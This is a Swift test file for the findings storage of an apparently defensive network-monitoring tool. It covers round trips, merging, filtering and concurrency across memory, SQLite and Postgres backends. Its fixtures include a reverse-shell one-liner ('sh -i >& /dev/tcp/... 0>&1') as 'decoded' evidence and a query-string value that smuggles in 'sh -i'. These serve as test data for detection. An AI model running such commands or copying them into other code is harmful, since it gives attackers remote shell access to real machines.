import FleetModel
import Foundation
import Storage
import StorageSQLite
import StoragePostgres
import Testing

/// Runs `body` with a fresh, migrated store of the given backend that keeps findings too.
func withFindingStore<Value>(
    _ backend: StoreBackend, _ body: (any FlowStore & FindingStore) async throws -> Value
) async throws -> Value {
    switch backend {
    case .memory:
        let store = InMemoryFlowStore()
        try await store.migrate()
        return try await body(store)
    case .sqlite:
        return try await withTemporaryDirectory { directory in
            let store = try SQLiteFlowStore(path: directory.appendingPathComponent("flows.sqlite").path)
            try await store.migrate()
            return try await body(store)
        }
    case .postgres:
        return try await withPostgresStore { store, _ in try await body(store) }
    }
}

/// Finding builders with distinctive values.
enum FindingFixtures {
    static func finding(
        detector: String = "injection-callback", key: String = "vm-1/35.217.6.162", severity: Severity = .critical,
        score: Double = 1, agent: String = "vm-1", host: String? = "172.31.6.55", first: Int64 = 10, last: Int64 = 20,
        uids: [String] = ["CHttp1", "CConn1"], indicators: [String] = ["35.217.6.162"], uris: [String] = [],
        evidence: [Finding.Evidence] = [.init("callback", "35.217.6.162:3000")], summary: String = "Reverse shell"
    ) -> Finding {
        Finding(
            detector: detector, key: key, severity: severity, score: score, agentID: agent,
            host: host.flatMap { IPAddress($0) },
            flows: [.init(Fixtures.id("172.31.6.55", 41_862, "35.217.6.162", 3000), .tcp)], uids: uids,
            firstSeen: Fixtures.time(first), lastSeen: Fixtures.time(last),
            indicators: .init(addresses: indicators.compactMap { IPAddress($0) }, domains: ["evil.example"], uris: uris),
            evidence: evidence, summary: summary)
    }
}

/// FindingStore contract: round trip, merge on upsert, filters, order and limit — for every backend.
@Suite struct FindingContractTests {
    @Test(arguments: StoreBackend.available)
    func newFindingRoundTripsFieldForField(backend: StoreBackend) async throws {
        try await withFindingStore(backend) { store in
            let finding = FindingFixtures.finding(
                score: 0.8125, uris: ["/dangerzone?category=fashion&&sh%20-i \"quoted\"\n"],
                evidence: [.init("decoded", "sh -i >& /dev/tcp/35.217.6.162/3000 0>&1"), .init("ü", "✓")])
            try await store.upsertFindings([finding])
            #expect(try await store.findings(FindingQuery()) == [finding])
            #expect(try await store.findings(FindingQuery()).first?.revision == 1)
        }
    }

    @Test(arguments: StoreBackend.available)
    func upsertMergesIntoTheStoredFinding(backend: StoreBackend) async throws {
        try await withFindingStore(backend) { store in
            let first = FindingFixtures.finding(
                severity: .high, score: 0.7, first: 10, last: 20, uids: ["CHttp1"], uris: ["/a"], summary: "first")
            let second = FindingFixtures.finding(
                severity: .critical, score: 1, first: 5, last: 30, uids: ["CHttp2"], uris: ["/b"],
                evidence: [.init("callback", "35.217.6.162:3000"), .init("injection_attempts", "2")], summary: "second")
            try await store.upsertFindings([first])
            try await store.upsertFindings([second])
            var expected = first
            expected.merge(second)
            let stored = try await store.findings(FindingQuery())
            #expect(stored == [expected])
            let merged = try #require(stored.first)
            #expect(merged.severity == .critical)
            #expect(merged.firstSeen == Fixtures.time(5) && merged.lastSeen == Fixtures.time(30))
            #expect(merged.uids == ["CHttp1", "CHttp2"])
            #expect(merged.indicators.uris == ["/a", "/b"])
            #expect(merged.evidence("injection_attempts") == "2")
            #expect(merged.summary == "second")
            #expect(merged.revision == 2)
            // The same observation again changes nothing, not even the revision.
            try await store.upsertFindings([second])
            #expect(try await store.findings(FindingQuery()) == [expected])
        }
    }

    @Test(arguments: StoreBackend.available)
    func repeatedIDsInOneCallMergeInOrder(backend: StoreBackend) async throws {
        try await withFindingStore(backend) { store in
            let a = FindingFixtures.finding(severity: .medium, score: 0.5, last: 20, uids: ["C1"])
            let b = FindingFixtures.finding(severity: .high, score: 0.8, last: 40, uids: ["C2"])
            let other = FindingFixtures.finding(detector: "long-connection", key: "vm-1/C9", severity: .low, score: 0.3)
            try await store.upsertFindings([a, other, b])
            var expected = a
            expected.merge(b)
            #expect(try await store.findings(FindingQuery()) == [expected, other])
        }
    }

    @Test(arguments: StoreBackend.available)
    func filtersOrderAndLimit(backend: StoreBackend) async throws {
        try await withFindingStore(backend) { store in
            let critical = FindingFixtures.finding(first: 10, last: 20)
            let highOld = FindingFixtures.finding(
                detector: "command-injection", key: "vm-1/a", severity: .high, score: 0.8, first: 1, last: 5)
            let highNew = FindingFixtures.finding(
                detector: "command-injection", key: "vm-2/b", severity: .high, score: 0.8, agent: "vm-2",
                host: "10.1.0.9", first: 30, last: 40, indicators: ["198.51.100.7"])
            let info = FindingFixtures.finding(
                detector: "first-seen-destination", key: "vm-2/x", severity: .info, score: 0.1, agent: "vm-2",
                host: nil, first: 50, last: 60, indicators: [])
            try await store.upsertFindings([info, highOld, critical, highNew])

            #expect(try await store.findings(FindingQuery()) == [critical, highNew, highOld, info])
            #expect(try await store.findings(FindingQuery(limit: 2)) == [critical, highNew])
            #expect(try await store.findings(FindingQuery(since: Fixtures.time(20))) == [critical, highNew, info])
            #expect(try await store.findings(FindingQuery(until: Fixtures.time(10))) == [highOld])
            #expect(try await store.findings(FindingQuery(agent: "vm-2")) == [highNew, info])
            #expect(try await store.findings(FindingQuery(minimumSeverity: .high)) == [critical, highNew, highOld])
            #expect(try await store.findings(FindingQuery(detector: "command-injection")) == [highNew, highOld])
            #expect(try await store.findings(FindingQuery(detector: "beaconing")).isEmpty)
            // Host: the finding's host or any indicator address.
            let victim = try #require(IPNetwork("172.31.6.55/32"))
            #expect(try await store.findings(FindingQuery(host: victim)) == [critical, highOld])
            let indicator = try #require(IPNetwork("198.51.100.0/24"))
            #expect(try await store.findings(FindingQuery(host: indicator)) == [highNew])
            let callback = try #require(IPNetwork("35.217.6.162/32"))
            #expect(try await store.findings(FindingQuery(host: callback, limit: 1)) == [critical])
            #expect(
                try await store.findings(FindingQuery(agent: "vm-1", minimumSeverity: .high, detector: "command-injection"))
                    == [highOld])
        }
    }

    @Test(arguments: StoreBackend.available)
    func invalidQueriesThrow(backend: StoreBackend) async throws {
        try await withFindingStore(backend) { store in
            for query in [FindingQuery(limit: 0), FindingQuery(limit: FindingQuery.maximumLimit + 1), FindingQuery(detector: "")] {
                await #expect(throws: StorageError.invalidQuery) { try await store.findings(query) }
            }
            try await store.upsertFindings([])
            #expect(try await store.findings(FindingQuery()).isEmpty)
        }
    }

    @Test(arguments: StoreBackend.available)
    func concurrentWritersConverge(backend: StoreBackend) async throws {
        try await withFindingStore(backend) { store in
            try await withThrowingTaskGroup(of: Void.self) { group in
                for index in 0..<20 {
                    group.addTask {
                        try await store.upsertFindings([
                            FindingFixtures.finding(last: 20 + Int64(index), uids: ["C\(index)"])
                        ])
                    }
                }
                try await group.waitForAll()
            }
            let stored = try await store.findings(FindingQuery())
            #expect(stored.count == 1)
            #expect(Set(stored.first?.uids ?? []).count == 20)
            #expect(stored.first?.lastSeen == Fixtures.time(39))
            #expect(stored.first?.revision == 20)
        }
    }
}

/// SQLite-only: findings live in their own migration and survive reopening the file.
@Suite struct SQLiteFindingFileTests {
    @Test func findingsSurviveReopeningAndMigrationIsNamed() async throws {
        try await withTemporaryDirectory { directory in
            let path = directory.appendingPathComponent("flows.sqlite").path
            let finding = FindingFixtures.finding()
            do {
                let store = try SQLiteFlowStore(path: path)
                try await store.migrate()
                try await store.upsertFindings([finding])
            }
            let reopened = try SQLiteFlowStore(path: path)
            try await reopened.migrate()
            #expect(try await reopened.appliedMigrations().contains("v2-findings"))
            #expect(try await reopened.findings(FindingQuery()) == [finding])
            try await reopened.upsertFindings([FindingFixtures.finding(last: 99, uids: ["CLater"])])
            #expect(try await reopened.findings(FindingQuery()).first?.uids == ["CHttp1", "CConn1", "CLater"])
        }
    }

    @Test func damagedFindingJSONIsCorruptData() async throws {
        try await withTemporaryDirectory { directory in
            let store = try SQLiteFlowStore(path: directory.appendingPathComponent("flows.sqlite").path)
            try await store.migrate()
            try await store.upsertFindings([FindingFixtures.finding()])
            try await store.executeRawSQL("UPDATE findings SET finding = '{\"id\": 3}'")
            await #expect(throws: StorageError.corruptData) { try await store.findings(FindingQuery()) }
            await #expect(throws: StorageError.corruptData) { try await store.upsertFindings([FindingFixtures.finding()]) }
        }
    }
}
